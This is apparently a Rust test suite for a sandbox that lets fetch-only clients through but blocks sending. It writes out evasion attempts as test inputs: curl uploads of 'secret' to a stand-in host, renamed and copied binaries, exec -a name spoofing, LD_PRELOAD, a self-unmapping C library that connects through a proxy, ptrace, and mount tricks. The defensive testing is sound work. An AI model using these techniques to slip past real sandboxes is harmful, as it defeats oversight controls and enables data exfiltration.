//! Programs that pretend to be a client that only fetches: what counts is the
//! file that runs, and whether a child could have written it.

use std::path::Path;
use std::process::Command;

use super::everyone;
use super::user::{TestUser, assert_stopped, skip};

/// No server is needed there: connections are judged before the name is
/// resolved.
const HOST: &str = "upload.example.com";

const CLIENT: &str = "\
import urllib.request

try:
    print(urllib.request.urlopen('http://upload.example.com/', timeout=5).status)
except Exception as error:
    print(error)
";

/// Compiles a C file of the project; false without a compiler.
fn compile(user: &TestUser, source: &str, program: &str, options: &[&str]) -> bool {
    let file = user.write(&format!("{program}.c"), source);
    let mut command = Command::new("cc");
    command.args(options).arg("-o").arg(user.project().join(program)).arg(file);
    let is_made = command.output().is_ok_and(|output| output.status.success());
    if !is_made {
        skip(&format!("cc cannot compile {program}"));
    }
    is_made
}

everyone!(the_installed_program_only_fetches);
fn the_installed_program_only_fetches(user: &mut TestUser) {
    if !user.has(&["curl"]) {
        return;
    }
    let result = user.attempt(&format!("curl -s -m 5 http://{HOST}/"));
    assert!(result.get("blocked").is_none(), "fetching needs no question: {result}");
    for send in ["-d secret", "-T x.txt", "-F a=b", "-X POST"] {
        user.write("x.txt", "secret");
        user.write("send.sh", format!("#!/bin/sh\ncurl -s -m 5 {send} http://{HOST}/\n"));
        let result = user.attempt("./send.sh");
        assert_stopped(send, &result, HOST, "network:send");
    }
}

everyone!(a_copy_in_the_workspace_is_another_program);
fn a_copy_in_the_workspace_is_another_program(user: &mut TestUser) {
    if !user.has(&["curl"]) {
        return;
    }
    user.attempt("mkdir bin && cp /usr/bin/curl bin/curl && ln /usr/bin/curl bin/hard; ln -s /usr/bin/curl bin/soft");
    let result = user.attempt(&format!("bin/curl -s -m 5 http://{HOST}/"));
    assert_stopped("a copy", &result, HOST, "network:send");
    user.write(
        "run.sh",
        format!("#!/bin/sh\nPATH=\"$PWD/bin:$PATH\"; curl -s -m 5 http://{HOST}/\n"),
    );
    assert_stopped("first in the path", &user.attempt("./run.sh"), HOST, "network:send");
}

everyone!(a_name_in_the_command_line_counts_for_nothing);
fn a_name_in_the_command_line_counts_for_nothing(user: &mut TestUser) {
    user.write("x.py", CLIENT);
    user.write("curl.sh", "#!/bin/bash\nexec -a curl python3 x.py\n");
    assert_stopped("exec -a", &user.attempt("./curl.sh"), HOST, "network:send");
    user.write("pip.sh", "#!/bin/bash\nexec -a pip python3 x.py pip install six\n");
    assert_stopped("as pip", &user.attempt("./pip.sh"), HOST, "network:send");
    if user.has(&["node"]) {
        user.write(
            "npm",
            "process.title = 'npm install';\n\
             require('http').get('http://upload.example.com/').on('error', console.log);\n\
             fetch('http://upload.example.com/').then(r => r.text()).then(console.log, console.log);\n",
        );
        assert_stopped("npm install", &user.attempt("node npm install"), HOST, "network:send");
    }
}

everyone!(loaded_code_makes_another_program);
fn loaded_code_makes_another_program(user: &mut TestUser) {
    let library = "__attribute__((constructor)) static void begin(void) {}\n";
    if !user.has(&["curl"]) || !compile(user, library, "evil.so", &["-shared", "-fPIC"]) {
        return;
    }
    user.write("run.sh", format!("#!/bin/sh\nLD_PRELOAD=./evil.so curl -s -m 5 http://{HOST}/\n"));
    assert_stopped("LD_PRELOAD", &user.attempt("./run.sh"), HOST, "network:send");
}

/// Unmaps its own executable before it connects.
const VANISHING_LIBRARY: &str = r#"
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <link.h>
#include <string.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

struct work { unsigned long begin, length; struct sockaddr_in proxy; char text[128]; unsigned long size; char answer[256]; };

static inline __attribute__((always_inline)) long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

__attribute__((noinline, section(".payload"))) static void payload(struct work *work) {
    call(SYS_munmap, work->begin, work->length, 0);
    long socket = call(SYS_socket, 2, 1, 0);
    call(SYS_connect, socket, (long)&work->proxy, sizeof work->proxy);
    call(SYS_write, socket, (long)work->text, work->size);
    long count = call(SYS_read, socket, (long)work->answer, sizeof work->answer);
    call(SYS_write, 1, (long)work->answer, count);
    call(SYS_exit_group, 0, 0, 0);
}

static int find(struct dl_phdr_info *info, size_t size, void *data) {
    struct work *work = data;
    if (!strstr(info->dlpi_name, "vanishing")) return 0;
    work->begin = info->dlpi_addr;
    for (int at = 0; at < info->dlpi_phnum; at++)
        if (info->dlpi_phdr[at].p_type == PT_LOAD)
            work->length = info->dlpi_phdr[at].p_vaddr + info->dlpi_phdr[at].p_memsz;
    work->length = (work->length + 4095) & ~4095UL;
    return 1;
}

__attribute__((constructor)) static void begin(void) {
    const char *proxy = getenv("HTTP_PROXY");
    if (!proxy) return;
    struct work *work = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    char *code = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    dl_iterate_phdr(find, work);
    work->proxy.sin_family = AF_INET;
    work->proxy.sin_port = htons(atoi(strrchr(proxy, ':') + 1));
    work->proxy.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    strcpy(work->text, "CONNECT upload.example.com:443 HTTP/1.1\r\nHost: upload.example.com:443\r\n\r\n");
    work->size = strlen(work->text);
    memcpy(code, (void *)payload, 1024);
    ((void (*)(struct work *))code)(work);
}
"#;

everyone!(code_that_hides_where_it_came_from_is_another_program);
fn code_that_hides_where_it_came_from_is_another_program(user: &mut TestUser) {
    let options = ["-shared", "-fPIC", "-O1", "-fno-stack-protector", "-fcf-protection=none"];
    if !cfg!(target_arch = "x86_64")
        || !user.has(&["curl"])
        || !compile(user, VANISHING_LIBRARY, "vanishing.so", &options)
    {
        return;
    }
    user.write(
        "run.sh",
        "#!/bin/sh\nLD_PRELOAD=./vanishing.so curl -s -m 5 http://a.example.com/\n",
    );
    let result = user.attempt("./run.sh");
    assert_stopped("vanishing library", &result, HOST, "network:send");
}

everyone!(an_overlay_copy_is_another_program);
fn an_overlay_copy_is_another_program(user: &mut TestUser) {
    let curl = Path::new("/usr/bin/curl");
    if !curl.exists() {
        skip(&format!("there is no {}", curl.display()));
        return;
    }
    for name in ["cargo", "curl"] {
        let file =
            user.write_home(&format!(".cargo/bin/{name}"), std::fs::read(curl).expect("curl"));
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        std::fs::set_permissions(file, mode).expect("a mode");
    }
    let run = |name: &str| format!("#!/bin/sh\n~/.cargo/bin/{name} -s -m 5 http://{HOST}/\n");
    for name in ["cargo", "curl"] {
        user.write("run.sh", run(name));
        let result = user.attempt("./run.sh");
        assert!(result.get("blocked").is_none(), "the user's own {name} fetches: {result}");
    }
    // The same bytes, but written by a child.
    for (name, replace) in [
        ("cargo", "cp /usr/bin/curl ~/.cargo/bin/new && mv ~/.cargo/bin/new ~/.cargo/bin/cargo"),
        ("curl", "cat /usr/bin/curl > ~/.cargo/bin/curl"),
    ] {
        user.write("replace.sh", format!("#!/bin/sh\n{replace}\n"));
        let replaced = user.attempt("./replace.sh");
        assert_eq!(replaced["exit_code"], 0, "{replaced}");
        user.write("run.sh", run(name));
        assert_stopped(replace, &user.attempt("./run.sh"), HOST, "network:send");
    }
}

everyone!(another_process_cannot_be_made_to_connect);
fn another_process_cannot_be_made_to_connect(user: &mut TestUser) {
    user.write(
        "trace.py",
        "import ctypes, os, subprocess, sys, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         child = subprocess.Popen(['curl', '-s', '-m', '5', 'http://127.0.0.1:9/', '--retry', '9', '--retry-connrefused'])\n\
         time.sleep(0.3)\n\
         if libc.ptrace(16, child.pid, 0, 0) == 0: print('traced')\n\
         try:\n    open(f'/proc/{child.pid}/mem', 'r+b').close(); print('opened memory')\n\
         except OSError as error:\n    print(error)\n\
         child.kill()\n",
    );
    let result = user.attempt("python3 trace.py");
    let output = result["output"].as_str().unwrap_or_default();
    assert!(output.contains("denied") || output.contains("not permitted"), "{result}");
    assert!(!output.contains("traced") && !output.contains("opened memory"), "{result}");
}

everyone!(a_mount_over_an_installed_program_is_not_made);
fn a_mount_over_an_installed_program_is_not_made(user: &mut TestUser) {
    user.write("x.py", CLIENT);
    user.write(
        "over.py",
        "import ctypes, os\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         if libc.unshare(0x10000000 | 0x00020000): print('unshare', os.strerror(ctypes.get_errno()))\n\
         if libc.mount(b'/usr/bin/python3', b'/usr/bin/curl', None, 4096, None): print('mount', os.strerror(ctypes.get_errno()))\n\
         os.execv('/usr/bin/curl', ['curl', 'x.py'])\n",
    );
    let result = user.attempt("python3 over.py");
    let output = result["output"].as_str().unwrap_or_default();
    assert!(output.contains("mount "), "the mount was made: {result}");
}

everyone!(a_caller_is_not_known_by_what_it_calls_itself);
fn a_caller_is_not_known_by_what_it_calls_itself(user: &mut TestUser) {
    // ssh requires a user name.
    if !user.has(&["git", "ssh"]) || !user.lay_over("/etc/passwd", &user.password_file()) {
        return;
    }
    let ssh = format!("ssh -o StrictHostKeyChecking=no -o BatchMode=yes {HOST} cat; true");
    let push = format!(
        "printf \"capabilities\\nlist for-push\\n\" | \"$(git --exec-path)\"/git-remote-https origin \
         https://{HOST}/x; true"
    );
    for line in [ssh, push] {
        user.write("run.sh", format!("#!/bin/bash\nexec -a git bash -c '{line}'\n"));
        assert_stopped(&line, &user.attempt("./run.sh"), HOST, "network:send");
    }
}

everyone!(a_client_with_a_configuration_of_the_workspace_may_send);
fn a_client_with_a_configuration_of_the_workspace_may_send(user: &mut TestUser) {
    if !user.has(&["curl"]) {
        return;
    }
    user.write(".curlrc", "data = \"secret\"\n");
    user.write("wgetrc", "post_data = secret\n");
    let mut lines = vec![
        format!("CURL_HOME=$PWD curl -s -m 5 https://{HOST}/"),
        format!("HOME=$PWD curl -s -m 5 https://{HOST}/"),
        format!("curl -s -m 5 -K .curlrc https://{HOST}/"),
    ];
    if user.has(&["wget"]) {
        lines.push(format!("WGETRC=wgetrc wget -q -T 5 -t 1 https://{HOST}/"));
    }
    for line in lines {
        user.write("run.sh", format!("#!/bin/sh\n{line}\n"));
        assert_stopped(&line, &user.attempt("./run.sh"), HOST, "network:send");
    }
}

everyone!(a_runtime_that_fetches_may_send_what_its_program_likes);
fn a_runtime_that_fetches_may_send_what_its_program_likes(user: &mut TestUser) {
    // Any interpreter works: only the name of the installed file counts.
    let Ok(python) = std::fs::read("/usr/bin/python3") else {
        skip("there is no /usr/bin/python3");
        return;
    };
    user.write("x.py", CLIENT);
    for name in ["bun", "deno"] {
        let file = user.outside().join(name);
        std::fs::write(&file, &python).expect("a program");
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        std::fs::set_permissions(&file, mode).expect("a mode");
        user.write("run.sh", format!("#!/bin/sh\n{} x.py\n", file.display()));
        assert_stopped(name, &user.attempt("./run.sh"), HOST, "network:send");
    }
}
